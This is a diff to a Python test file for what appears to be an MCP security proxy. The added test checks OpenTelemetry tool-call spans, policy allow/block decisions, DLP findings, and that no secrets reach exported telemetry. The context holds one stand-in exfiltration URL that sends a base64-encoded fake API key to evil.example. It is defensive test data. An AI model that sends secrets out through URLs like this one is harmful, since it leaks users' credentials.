@@ -12,6 +12,7 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import json
+import os
 import socket
 import threading
 import time
@@ -36,6 +37,7 @@ from starlette.responses import JSONResponse
 from starlette.responses import Response
 from starlette.routing import Route
 
+from addons import semconv as sc
 from addons.mcp import JsonTap
 from addons.mcp import LegacySession
 from addons.mcp import LegacySseTap
@@ -46,6 +48,10 @@ from addons.policy import load_policy
 from addons.yamlfile import ConfigError
 from tests.conftest import Proxy
 from tests.conftest import start_proxy
+from tests.otlp_receiver import SPAN_KIND_CLIENT
+from tests.otlp_receiver import STATUS_CODE_ERROR
+from tests.otlp_receiver import OtlpReceiver
+from tests.test_telemetry import otel_args
 
 CORP, STRICT, ROGUE, GATED = "mcp.corp.test", "strict.mcp.test", "rogue.mcp.test", "gated.mcp.test"
 EXFIL = "https://evil.example/c.png?data=c2VjcmV0LWFwaS1rZXktMTIzNDU2Nzg5MA=="
@@ -581,3 +587,59 @@ def test_taps_give_up_beyond_the_limit_and_never_raise():
     big = JsonTap(boom, limit=8)
     assert big(body) == [body] and big(b"") == []
 
+
+def test_tool_calls_are_execute_tool_spans(tmp_path, fresh_proxy, test_ca, monkeypatch):
+    for name in [n for n in os.environ if n.startswith("OTEL_")]:
+        monkeypatch.delenv(name)
+    monkeypatch.setenv("OTEL_BSP_SCHEDULE_DELAY", "100")
+    policy, users = tmp_path / "policy.yaml", tmp_path / "users.yaml"
+    policy.write_text(POLICY)
+    users.write_text(USERS)
+    receiver = OtlpReceiver().start()
+    try:
+        with mcp_server(tmp_path, test_ca, json_response=False) as port:
+            proxy = fresh_proxy(
+                *otel_args(receiver.endpoint),
+                "--set", f"shadowgate_policy={policy}", "--set", f"shadowgate_users={users}",
+                upstream_port=port,
+            )  # fmt: skip
+
+            async def body(client: Client) -> None:
+                await client.call_tool("echo", {"text": f"otel {ARG_SECRET} payload-{port}"})
+                with pytest.raises(MCPError):
+                    await client.call_tool("delete_repo", {"name": "prod"})
+
+            run(proxy, CORP, body, user="otto")
+            rows = {r["tool_name"]: r for r in calls(proxy, "user_name = 'otto' AND method = 'tools/call'", 2)}
+
+            def tool_spans(r: OtlpReceiver) -> dict:
+                found = {s["name"]: s for s in r.spans() if s["attributes"].get("gen_ai.operation.name") == "execute_tool"}
+                return found if len(found) == 2 else {}
+
+            spans = receiver.wait_for(tool_spans)
+            assert set(spans) == {"execute_tool echo", "execute_tool delete_repo"}, receiver.spans()
+            ok, denied = spans["execute_tool echo"], spans["execute_tool delete_repo"]
+            a = ok["attributes"]
+            assert ok["kind"] == SPAN_KIND_CLIENT and ok["status"] != STATUS_CODE_ERROR
+            assert (a["gen_ai.tool.name"], a["mcp.method.name"], a["server.address"], a["server.port"]) == (
+                "echo", "tools/call", CORP, 443)
+            assert a["mcp.session.id"] == rows["echo"]["session_id"] and a["mcp.protocol.version"]
+            assert a["jsonrpc.request.id"] and a["shadowgate.request_id"] == rows["echo"]["request_id"]
+            assert (a["shadowgate.decision"], a["shadowgate.rule_id"]) == ("allow", "mcp:corp")
+            assert a["shadowgate.dlp.findings.AWS_ACCESS_KEY"] == 1 and a["enduser.id"] == "otto"
+            assert "error.type" not in a
+            d = denied["attributes"]
+            assert denied["status"] == STATUS_CODE_ERROR
+            assert (d["error.type"], d["rpc.response.status_code"]) == ("-32001", "-32001")
+            assert (d["shadowgate.decision"], d["shadowgate.rule_id"]) == ("block", "mcp:corp:tools")
+            durations = receiver.wait_for(
+                lambda r: [p for p in r.metrics().get("mcp.client.operation.duration", ()) if p["attributes"].get("gen_ai.tool.name") == "echo"]
+            )
+            assert durations and durations[0]["bounds"] == sc.MCP_DURATION_BUCKETS
+            assert all("enduser.id" not in p["attributes"] for p in receiver.metrics()["mcp.client.operation.duration"])
+            # Neither arguments nor results leave: not the planted secret, not the echoed text.
+            exported = b"".join(receiver.raw)
+            assert ARG_SECRET.encode() not in exported and f"payload-{port}".encode() not in exported
+            proxy.stop()
+    finally:
+        receiver.stop()
